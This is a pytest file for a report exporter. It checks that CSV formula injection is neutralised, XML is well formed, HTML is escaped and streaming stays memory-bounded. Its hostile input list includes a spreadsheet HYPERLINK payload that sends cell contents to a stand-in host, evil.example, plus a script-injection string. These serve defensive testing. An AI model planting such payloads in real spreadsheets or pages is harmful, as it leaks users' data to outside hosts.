"""Report writers: CSV read back by the csv module, XML by defusedxml, streaming in blocks."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tracemalloc
from decimal import Decimal

import pytest
from defusedxml import ElementTree

from app.reports.export import (
    BLOCK_ROWS,
    BOM,
    Column,
    CsvWriter,
    Format,
    HtmlWriter,
    Meta,
    XmlWriter,
    csv_cell,
    escape_formula,
    stitch,
    stream,
    writer_for,
    xml_text,
)

COLUMNS = [Column("id", "Id"), Column("organization", "Organization"), Column("expires", "Expires")]
WHEN = dt.datetime(2026, 12, 7, 2, 30, 15, 123, tzinfo=dt.UTC)
META = Meta("ssl_certificates", "SSL certificates", WHEN, {"organization": "=evil()"})
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\tTabbed",
    "\rReturn",
    'quote " and, comma\r\nnew line',
    "null\x00byte",
]


def whole(chunks) -> bytes:
    return b"".join(chunks)


def test_formula_prefixes_are_escaped_and_plain_text_is_not():
    for text in HOSTILE[:6]:
        assert escape_formula(text) == "'" + text
    assert escape_formula("Acme Corp") == "Acme Corp"
    assert csv_cell(-5) == -5  # a number (csv.writer formats it), not a formula
    assert csv_cell(Decimal("-1.5")) == "-1.5"
    assert csv_cell(True) == "true"
    assert csv_cell(None) == ""
    assert csv_cell(WHEN) == "2026-12-07T02:30:15Z"


def test_csv_reads_back_as_text_with_the_csv_module():
    rows = [(i, text, WHEN) for i, text in enumerate(HOSTILE)]
    data = whole(stream(CsvWriter(), META, COLUMNS, rows))
    assert b"\r\n" in data and not data.startswith(BOM)
    read = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert read[0] == ["Id", "Organization", "Expires"]
    assert len(read) == len(HOSTILE) + 1
    for (_number, org, expires), original in zip(read[1:], HOSTILE, strict=True):
        assert not org.startswith(("=", "+", "-", "@", "\t", "\r")), org
        expected = original.replace("\x00", "")
        assert org in (expected, "'" + expected)
        assert expires == "2026-12-07T02:30:15Z"
    assert read[1][1] == "'" + HOSTILE[0]
    assert read[7][1] == HOSTILE[6]  # embedded quote, comma and CRLF survive the round trip


def test_csv_bom_for_excel():
    data = whole(stream(CsvWriter(bom=True), META, COLUMNS, [(1, "a", None)]))
    assert data.startswith(BOM)
    assert data.decode("utf-8-sig").splitlines()[0] == "Id,Organization,Expires"


def test_xml_is_well_formed_and_drops_invalid_characters():
    nasty = "bell\x07 vt\x0b ff\x0c nul\x00 ok \ufffe<&>\"' é 😀"
    rows = [(1, HOSTILE[0], WHEN), (2, nasty, None), (3, "line\r\nbreak", WHEN)]
    data = whole(stream(XmlWriter(), META, COLUMNS, rows))
    root = ElementTree.fromstring(data)
    assert root.tag == "report" and root.get("type") == "ssl_certificates"
    assert root.find("filters/filter").text == "=evil()"
    found = root.findall("rows/row")
    assert [r.findtext("id") for r in found] == ["1", "2", "3"]
    assert found[0].findtext("organization") == HOSTILE[0]
    assert found[1].findtext("organization") == "bell vt ff nul ok <&>\"' é 😀"
    assert found[1].findtext("expires") == ""
    assert found[2].findtext("organization") == "line\r\nbreak"  # CR kept as &#13;
    assert root.findtext("count") == "3"


def test_xml_text_escapes_markup():
    assert xml_text('<a href="x">&') == "&lt;a href=&quot;x&quot;&gt;&amp;"


def test_column_keys_must_be_xml_names():
    for bad in ("1st", "has space", "xmlthing", "a<b"):
        with pytest.raises(ValueError):
            Column(bad, "x")


def test_html_is_self_contained_and_escaped():
    data = whole(stream(HtmlWriter(), META, COLUMNS, [(1, "<script>alert(1)</script>", WHEN)]))
    page = data.decode()
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "http" not in page  # nothing loaded from elsewhere
    assert page.rstrip().endswith("</html>") and "1 rows." in page


@pytest.mark.parametrize("fmt", list(Format))
def test_stitched_chunks_equal_one_stream(fmt):
    rows = [(i, f"org {i}", WHEN) for i in range(2500)]
    writer = writer_for(fmt)
    one = whole(stream(writer, META, COLUMNS, rows))
    chunks = [whole(writer.rows(COLUMNS, rows[a : a + 700])) for a in range(0, 2500, 700)]
    assert whole(stitch(writer, META, COLUMNS, chunks, len(rows))) == one


def _peak(count: int) -> tuple[int, int, int]:
    def rows():
        for i in range(count):
            yield (i, f"Organization number {i % 1000}", WHEN)

    tracemalloc.start()
    total = blocks = 0
    try:
        for block in stream(CsvWriter(), META, COLUMNS, rows()):
            total += len(block)
            blocks += 1
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, total, blocks


def test_streaming_keeps_memory_flat():
    """Rows pass through in blocks: five times the rows, the same peak memory (tracemalloc
    slows allocation tenfold, so 10,000 and 50,000 rows; bench/reports.py measures more)."""
    small, _, _ = _peak(10_000)
    peak, total, blocks = _peak(50_000)
    assert blocks >= 50_000 // BLOCK_ROWS
    assert total > 2_500_000
    assert peak < small * 1.5, (small, peak)
    assert peak < total // 2, (peak, total)


def test_enum_and_bool_cells():
    import enum

    class Colour(enum.StrEnum):
        RED = "=red"
        BLUE = "blue"

    assert csv_cell(Colour.RED) == "'=red"  # an enum's value is text like any other
    assert csv_cell(Colour.BLUE) == "blue"
    assert csv_cell(Colour.RED) == "'=red"  # the second lookup takes the cached path
    assert csv_cell(False) == "false"
    assert csv_cell(dt.date(2027, 1, 2)) == "2027-01-02"
    assert csv_cell(dt.datetime(2027, 1, 2, 3, 4, 5)) == "2027-01-02T03:04:05"


def test_text_rows_write_what_rows_writes() -> None:
    """CsvWriter.text_rows (cells already text, numbers at known positions) writes the
    bytes rows writes for the same values: every risky first character, NUL, a separator
    inside a cell, cells csv.writer quotes, plain blocks and blocks with one risky or
    quoted cell."""
    when = dt.datetime(2027, 1, 31, 12, 0, 5, 123456, tzinfo=dt.UTC)
    risky = ["=1", "+1", "-1", "@a", "\tx", "nul\x00", "a\x1f=b", "\x1f-", "ok", ""]
    special = {3000: "x,y", 4000: 'q"', 4001: "lf\n", 4002: "cr\r"}
    typed = []
    for i in range(4500):
        # Blocks of 1,000: risky cells, none to quote; neither; risky, one a CR (quoted);
        # one comma; a quote and line ends.
        if i < 1000 and i % 97 == 0:
            name = risky[i % len(risky)]
        elif 2000 <= i < 2100:
            name = [*risky, "\ry"][i % (len(risky) + 1)]
        else:
            name = f"h{i}"
        other = special.get(i, "p")
        typed.append((i - 5, name, when if i % 2 else None, bool(i % 3), other))
    texts = [
        (
            str(n),
            name,
            csv_cell(moment) if moment else "",
            "true" if flag else "false",
            other,
        )
        for n, name, moment, flag, other in typed
    ]
    blocks = [texts[i : i + BLOCK_ROWS] for i in range(0, len(texts), BLOCK_ROWS)]
    columns = [Column(f"c{i}", f"C{i}") for i in range(5)]
    writer = CsvWriter()
    expected = b"".join(writer.rows(columns, typed))
    assert b"".join(writer.text_rows(blocks, numeric=frozenset({0}))) == expected
    assert b"'-1" in expected and b",-5," not in expected and b"-5," in expected
    assert b'"x,y"' in expected and b'"q"""' in expected and b'"cr\r"' in expected
    one = [Column("only", "Only")]
    assert b"".join(writer.text_rows([[("",), ("a",)]])) == b"".join(
        writer.rows(one, [("",), ("a",)])
    )
